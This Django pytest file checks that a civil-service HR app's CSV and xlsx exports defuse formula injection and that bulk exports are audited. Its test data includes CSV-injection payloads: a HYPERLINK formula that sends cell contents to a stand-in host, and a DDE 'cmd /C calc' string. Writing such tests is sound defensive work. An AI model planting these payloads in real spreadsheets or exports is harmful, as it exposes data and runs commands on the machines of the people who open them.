"""Issue #14: every CSV and xlsx export route, fed hostile values (a name, a unit, a campaign, a pegawai's
own IDP note, an imported value), gives a file in which no cell is a live formula, nor an error where the
text was `#N/A`."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from talenta.core.audit import audit_record
from talenta.core.cells import FORMULA_START
from talenta.core.models import Job
from talenta.people.models import Employee, Instansi, Unit
from talenta.profiling.tasks import KIND
from talenta.siasn.models import ImportRun
from talenta.talent.models import DevelopmentAction, DevelopmentPlan
from tests.access.registry import load_samples
from tests.access.world import build_world

pytestmark = pytest.mark.django_db
HOSTILE = [
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    # Not formulas, but what a failed one shows: written as such, Excel shows an error, not the text.
    "#N/A",
    "#NAME?",
]
# route → (viewer role, extra url kwargs)
EXPORTS = {
    "people:employee-export": ("admin", {}),
    "profiling:roster-xlsx": ("analis", {}),
    "talent:idp-export": ("analis", {}),
    "siasn:errors": ("analis", {"fmt": "csv"}),
    "siasn:errors#xlsx": ("analis", {"fmt": "xlsx"}),
    "profiling:import-job-errors": ("analis", {}),
    "accounts:audit-export": ("auditor", {"fmt": "csv"}),
    "accounts:audit-export#xlsx": ("auditor", {"fmt": "xlsx"}),
    "merit:report-xlsx": ("analis", {}),
}


@pytest.fixture
def world():
    w = build_world()
    side = w.a
    evil = iter(HOSTILE * 4)
    Employee.objects.filter(unit__instansi=side.instansi).update(name=next(evil))
    Unit.objects.filter(instansi=side.instansi).update(name=next(evil))
    Instansi.objects.filter(pk=side.instansi.pk).update(name=HOSTILE[0])
    side.instansi.refresh_from_db()
    return w


def _url(world, route, user):
    name = route.split("#")[0]
    kwargs = dict(EXPORTS[route][1])
    if name in ("siasn:errors",):
        run = ImportRun.objects.create(
            instansi=world.a.instansi,
            username="sampel",
            status=ImportRun.Status.PREVIEW,
            error_count=len(HOSTILE),
            errors=[
                {"kind": "data-utama", "file": h, "row": "2", "field": "nama", "value": h, "message": h}
                for h in HOSTILE
            ],
        )
        return reverse(name, kwargs={"pk": run.pk, **kwargs})
    if name == "profiling:import-job-errors":
        job = Job.objects.create(
            kind=KIND,
            label="Impor hasil",
            instansi_id=world.a.instansi.pk,
            status=Job.Status.FAILED,
            result={"errors": [{"row": 2, "column": "nip", "value": h, "reason": h} for h in HOSTILE]},
        )
        return reverse(name, kwargs={"pk": job.pk})
    if name == "accounts:audit-export":
        for h in HOSTILE:
            audit_record(actor=user, action="test.hostile", target_repr=h, reason=h, changes={"x": [h, h]})
        return reverse(name, kwargs=kwargs)
    samples = load_samples()
    built = samples[name].build(world, user, "own") if name in samples else {}
    if name == "talent:idp-export":
        plan = DevelopmentPlan.objects.get(pk=built["pk"])
        plan.summary = HOSTILE[0]
        plan.save()
        for h in HOSTILE:
            DevelopmentAction.objects.create(
                plan=plan, kind="training", description=h, target=h, employee_note=h
            )
    if name == "profiling:roster-xlsx":
        from talenta.profiling.models import Campaign

        Campaign.objects.filter(pk=built["pk"]).update(name=HOSTILE[3])
    return reverse(name, kwargs=built or None)


def _cells(response) -> list:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if body[:2] == b"PK":
        wb = load_workbook(io.BytesIO(body))
        cells = []
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {c.value!r}"
                    assert c.data_type != "e", f"{ws.title}!{c.coordinate} is an error: {c.value!r}"
                    cells.append(c.value)
        return cells
    return [v for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for v in row]


@pytest.mark.parametrize("route", list(EXPORTS))
def test_no_export_holds_a_live_formula(client, world, route):
    user = world.a.users[EXPORTS[route][0]]
    client.force_login(user)
    response = client.get(_url(world, route, user))
    assert response.status_code == 200, route
    cells = [v for v in _cells(response) if isinstance(v, str)]
    live = [v for v in cells if v[:1] in FORMULA_START]
    assert not live, f"{route}: {live[:3]}"
    # The hostile text is there, made inert (not dropped): the export still says what was entered.
    assert any((v.startswith("'") and v[1:] in HOSTILE) or any(h in v for h in HOSTILE) for v in cells), route


@pytest.mark.parametrize(
    ("route", "action"),
    [
        ("people:employee-export", "people.export"),
        ("profiling:roster-xlsx", "profiling.roster_export"),
        ("talent:idp-export", "talent.idp_export"),
    ],
)
def test_a_bulk_export_writes_an_audit_entry(client, world, route, action):
    from talenta.core.models import AuditEntry

    user = world.a.users[EXPORTS[route][0]]
    client.force_login(user)
    url = _url(world, route, user)
    assert client.get(url).status_code == 200
    entry = AuditEntry.objects.filter(action=action).get()
    assert entry.actor_username == user.username and "rows" in entry.changes


def test_a_bulk_api_read_writes_an_audit_entry(client, world):
    from talenta.accounts.services import token_create
    from talenta.core.models import AuditEntry

    user = world.a.users["analis"]
    token = token_create(user=user, name="t").secret
    r = client.get("/api/v1/employees?golongan=III/c", HTTP_AUTHORIZATION=f"Bearer {token}")
    assert r.status_code == 200
    entry = AuditEntry.objects.filter(action="api.employees_list").get()
    assert entry.actor_username == user.username and entry.changes["query"] == {"golongan": "III/c"}


def test_an_idp_note_change_is_audited_with_before_and_after(world):
    from talenta.core.models import AuditEntry
    from talenta.talent.services import idp_progress_update

    user = world.a.users["pegawai"]
    plan = DevelopmentPlan.objects.get(pk=load_samples()["talent:idp"].build(world, user, "own")["pk"])
    action = DevelopmentAction.objects.create(
        plan=plan, kind="training", description="Diklat", employee_note="lama"
    )
    idp_progress_update(action=action, progress=50, note="baru", by=user)
    entry = AuditEntry.objects.filter(action="talent.idp_progress").latest("id")
    assert entry.changes["note"] == ["lama", "baru"]
